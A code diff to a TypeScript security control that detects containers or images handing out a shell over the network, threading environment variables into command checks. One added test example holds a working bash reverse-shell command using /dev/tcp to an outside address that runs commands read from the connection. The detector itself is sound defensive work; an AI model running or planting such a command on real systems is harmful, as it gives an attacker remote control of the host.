@@ -1,6 +1,6 @@
 // Programs in a container that hand out a shell over the network.
 import { z } from 'zod';
-import { commandsOf } from '../../commands/command.ts';
+import { type Command, commandsOf } from '../../commands/command.ts';
 import { shellListeners } from '../../commands/listeners.ts';
 import type { At } from '../../model/at.ts';
 import { defineControl, evidence, failIfAny, unknown } from '../../model/control.ts';
@@ -31,14 +31,19 @@ export const noRemoteShellDaemon = defineControl({
 });
 
 function ofContainer(container: Container): Evidence[] {
-  const { entryPoint, command, hooks, name } = container;
+  const { entryPoint, command, environment, hooks, name } = container;
+  const variables = environment.value;
   const place = command.value === null ? entryPoint : command;
   return [
-    ...daemons(entryPoint.value, command.value, place, `container ${name}`),
+    ...daemons(commandsOf(entryPoint.value, command.value, variables), place, `container ${name}`),
     ...hooks.flatMap((hook) =>
       hook.command === null
         ? []
-        : daemons(null, hook.command.value, hook.command, `container ${name} (${hook.kind})`),
+        : daemons(
+            commandsOf(null, hook.command.value, variables),
+            hook.command,
+            `container ${name} (${hook.kind})`,
+          ),
     ),
   ];
 }
@@ -47,16 +52,11 @@ function ofImage({ config }: Image): Judgement {
   if (config === null) return unknown('the configuration of the image is not known');
   const { entryPoint, command } = config;
   const place = command.value.length === 0 ? entryPoint : command;
-  return failIfAny(daemons(entryPoint.value, command.value, place, 'the image'));
+  return failIfAny(daemons(commandsOf(entryPoint.value, command.value), place, 'the image'));
 }
 
-function daemons(
-  entryPoint: readonly string[] | null,
-  command: readonly string[] | null,
-  place: At<unknown>,
-  who: string,
-): Evidence[] {
-  return shellListeners(commandsOf(entryPoint, command)).map(({ what, message }) =>
+function daemons(commands: readonly Command[], place: At<unknown>, who: string): Evidence[] {
+  return shellListeners(commands).map(({ what, message }) =>
     evidence(place.path, what, null, `${who} ${message}`),
   );
 }
@@ -86,6 +86,16 @@ export const examples = (): Examples => ({
         },
       }),
       at: 'spec.containers[0].lifecycle.postStart.exec.command',
+    },
+    {
+      says: 'commands read from a connection',
+      given: taskDefinition({
+        container: {
+          command: ['bash', '-c', 'exec 5<>/dev/tcp/198.51.100.9/443; while read l <&5; do $l >&5; done'],
+        },
+      }),
+      at: 'containerDefinitions[0].command',
+      alsoFails: ['input-validation/no-inline-code'],
     },
   ],
   passes: [
